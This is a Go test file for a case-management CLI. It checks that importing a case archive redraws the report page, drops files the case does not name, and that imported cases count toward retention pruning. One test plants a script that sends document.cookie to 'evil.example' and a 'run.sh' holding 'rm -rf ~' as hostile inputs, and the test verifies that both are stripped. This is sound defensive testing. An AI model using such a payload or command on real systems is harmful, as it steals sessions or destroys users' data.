package cli_test

import (
	"archive/zip"
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gocasebook/casebook/casefile"
)

// repacked is a zip of a case with more files in it, which replace those with the same name.
func repacked(t *testing.T, file string, more map[string]string) string {
	t.Helper()
	in, err := zip.OpenReader(file)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	var b bytes.Buffer
	out := zip.NewWriter(&b)
	top := strings.SplitN(in.File[0].Name, "/", 2)[0]
	add := func(name string, from io.Reader) {
		w, err := out.Create(name)
		if err == nil {
			_, err = io.Copy(w, from)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range in.File {
		if _, replaced := more[strings.TrimPrefix(f.Name, top+"/")]; replaced {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		add(f.Name, r)
		r.Close()
	}
	for name, text := range more {
		add(top+"/"+name, strings.NewReader(text))
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	return write(t, "evil.zip", b.String())
}

// The page of an imported case is drawn here. The page that came with it, with its script, and files that the case does
// not name are not imported.
func TestImportDrawsThePageAnew(t *testing.T) {
	dir := t.TempDir()
	id := oldCases(t, filepath.Join(dir, "sent"), 1, 24*100)[0]
	casebook(t, dir, "case", "report", "--dir", "sent").want(t, 0, "report.html")
	casebook(t, dir, "case", "export", "--dir", "sent", "-o", "incident.zip").want(t, 0, "incident.zip")
	const script = "<script>fetch('http://evil.example/'+document.cookie)</script>"
	evil := repacked(t, filepath.Join(dir, "incident.zip"),
		map[string]string{"report.html": script, "readme.html": script, "run.sh": "rm -rf ~"})
	casebook(t, dir, "case", "import", "--dir", "got", evil).want(t, 0, "imported")
	page := string(readAll(t, filepath.Join(dir, "got", id, "report.html")))
	if strings.Contains(page, "evil.example") || !strings.Contains(page, id) {
		t.Errorf("the page is not ours: %.300s", page)
	}
	files, err := os.ReadDir(filepath.Join(dir, "got", id))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range files {
		names = append(names, f.Name())
	}
	if got := strings.Join(names, " "); got != ".imported .lock case.json notes.txt report.html" {
		t.Errorf("the imported case holds %s", got)
	}
}

// An imported case of long ago is as old as its import: it is kept as long as a case of that moment, and goes like one.
func TestImportCountsAgainstRetention(t *testing.T) {
	dir := t.TempDir()
	cases := filepath.Join(dir, "cases")
	var zips []string
	for i := range 3 { // years old, and each the first and the worst of a rule in a folder of its own
		from := filepath.Join(dir, "sent", string(rune('a'+i)))
		oldCases(t, from, 1, 24*900)
		zips = append(zips, filepath.Join(dir, string(rune('a'+i))+".zip"))
		casebook(t, dir, "case", "export", "--dir", from, "-o", zips[i]).want(t, 0)
	}
	own := oldCases(t, cases, 2, 10)
	casebook(t, dir, append([]string{"case", "import", "--dir", cases}, zips...)...).want(t, 0, "imported")
	casebook(t, dir, "case", "prune", "--dir", cases).want(t, 0, "removed 0 cases", "5 cases left") // 30 days
	casebook(t, dir, "case", "prune", "--dir", cases, "--keep-cases", "2").want(t, 0, "removed 3 cases")
	list, err := casefile.Dir(cases).List()
	if err != nil || len(list) != 2 {
		t.Fatalf("%d cases are left (%v)", len(list), err)
	}
	if list[0].ID != own[0] && list[1].ID != own[0] {
		t.Errorf("the first case of here is gone for imported ones of long ago: %s and %s are left", list[0].ID,
			list[1].ID)
	}
}
